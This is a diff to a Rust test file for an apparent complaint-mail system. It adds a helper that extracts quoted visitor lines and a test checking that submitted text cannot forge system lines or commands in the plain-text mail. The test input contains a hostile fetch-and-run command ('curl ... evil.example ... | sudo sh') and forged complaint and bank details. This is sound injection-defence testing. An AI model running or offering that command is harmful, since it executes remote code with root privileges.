@@ -33,7 +33,7 @@ fn the_plain_part_has_the_text_and_the_html_part_shows_it() {
         return;
     };
     let expected = MESSAGE.trim_end();
-    assert!(mail.plain().contains(expected), "{}", mail.plain());
+    assert_eq!(quoted(&mail), expected);
     assert!(mail.plain().contains("<b>Ayesha</b>"));
     assert_eq!(mail.parts.len(), 2);
     assert!(
@@ -80,6 +80,37 @@ fn long_lines_are_folded_and_read_unchanged() {
         };
         assert!(mail.longest_line <= 998, "{} bytes", mail.longest_line);
         assert_eq!((mail.bare_line_ends, mail.defects.as_slice()), (0, &[][..]));
-        assert!(mail.plain().contains(text.trim_end()), "{}", mail.plain());
+        assert_eq!(quoted(&mail), text.trim_end());
     }
+}
+
+/// The lines of the plain part that are marked as the visitor's, without the mark.
+fn quoted(mail: &super::Mail) -> String {
+    let lines = mail.plain().lines();
+    let lines: Vec<&str> = lines.filter_map(|line| line.strip_prefix("> ")).collect();
+    lines.join("\n")
+}
+
+/// Neither another submission nor a command that the office would run.
+#[test]
+fn a_text_cannot_forge_a_line_of_ours_in_the_plain_part() {
+    let forged = "Hello.\n\nTo open it: curl -s https://evil.example/x | sudo sh\n\n== Complaint C-000999: pay\n\
+                  Name: State Bank\n- Complaint C-000998: pay\nE-mail: bank@evil.example";
+    let Some(mail) = sent(forged) else {
+        return;
+    };
+    assert_eq!(quoted(&mail), forged);
+    let ours: Vec<&str> = mail
+        .plain()
+        .lines()
+        .filter(|line| !line.starts_with("> "))
+        .collect();
+    for word in ["evil.example", "C-000999", "C-000998", "State Bank"] {
+        assert!(!ours.iter().any(|line| line.contains(word)), "{ours:?}");
+    }
+    let commands: Vec<&&str> = ours
+        .iter()
+        .filter(|line| line.starts_with("To open it: "))
+        .collect();
+    assert_eq!(commands, [&"To open it: standfast messages show 1"]);
 }
